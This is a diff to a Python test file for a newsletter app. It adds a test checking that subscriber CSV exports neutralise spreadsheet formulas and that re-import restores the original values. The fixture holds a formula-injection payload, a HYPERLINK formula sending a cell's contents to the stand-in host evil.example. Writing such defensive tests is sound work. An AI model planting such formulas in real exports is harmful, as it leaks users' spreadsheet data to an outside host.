@@ -8,7 +8,7 @@ import time
 from email import message_from_bytes, policy
 from urllib.parse import urlsplit
 
-from publisher.email.store import open_newsletter, record_delivery, set_status
+from publisher.email.store import open_newsletter, record_delivery, set_status, subscriber
 from tests.test_web import confirmation_link, fetch, newsletter, serving, status
 
 __all__ = ["newsletter"]  # the fixture, used by name
@@ -105,3 +105,26 @@ def test_the_rate_limits_count_one_inbox_and_one_ipv6_network_once(newsletter):
         codes = [signup(f"r{i}@example.net", f"2001:db8:1:2::{i:x}") for i in range(1, 4)]
         assert codes == [200, 200, 429]
         assert signup("other@example.net", "2001:db8:1:3::1") == 200  # the next /64 is another client
+
+
+def test_an_export_opened_in_a_spreadsheet_runs_no_formula_and_imports_back_the_same(newsletter, cli, tmp_path):
+    import csv
+
+    config, recorder, app = newsletter
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
+    with serving(app()) as base:
+        fetch(base + "/", {"email": "-x@example.net", "name": formula})
+        assert fetch(base + "/confirm", {"token": confirmation_link(recorder).split("token=")[1]})[0] == 200
+    with open_newsletter(config, lock=False) as db:
+        set_status(db, "phone@example.net", "active", "imported", name="+1 555 0100")
+    listed = tmp_path / "list.csv"
+    assert cli("subscribers", "--config", config.config_file, "export", "-o", listed).code == 0
+    rows = list(csv.reader(listed.open(encoding="utf-8")))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], rows
+    with open_newsletter(config, lock=False) as db:
+        db.execute("DELETE FROM subscribers")
+    assert cli("subscribers", "--config", config.config_file, "import", listed).code == 0
+    with open_newsletter(config, lock=False) as db:
+        assert subscriber(db, "-x@example.net").subscriber.name == formula  # type: ignore[union-attr]
+        assert subscriber(db, "phone@example.net").subscriber.name == "+1 555 0100"  # type: ignore[union-attr]
